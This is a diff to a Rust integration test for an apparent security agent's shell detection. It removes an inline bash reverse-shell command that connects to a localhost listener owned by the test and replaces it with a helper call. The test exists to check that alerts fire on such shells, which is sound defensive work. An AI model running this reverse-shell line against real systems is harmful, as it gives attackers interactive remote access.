@@ -338,17 +338,7 @@ fn an_alert_is_not_held_behind_stalled_telemetry() {
         Agent::start(&["--config", &config(&dir.path, &receiver.url(), "timeout = \"20s\"")]);
     connections(3);
     // A reverse shell to a listener of the test's.
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut shell = crate::util::KillOnDrop::new(
-        Command::new("bash")
-            .args(["-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
-            .stdin(std::process::Stdio::null())
-            .stderr(std::process::Stdio::null())
-            .spawn()
-            .unwrap(),
-    );
-    let (_peer, _) = listener.accept().unwrap();
+    let (mut shell, _peer, port) = crate::util::bash_reverse_shell();
     let opened = agent.wait_for("incident_opened", |e| {
         e["event"]["action"] == "incident_opened" && crate::detect_shells::is_incident_for(e, port)
     });
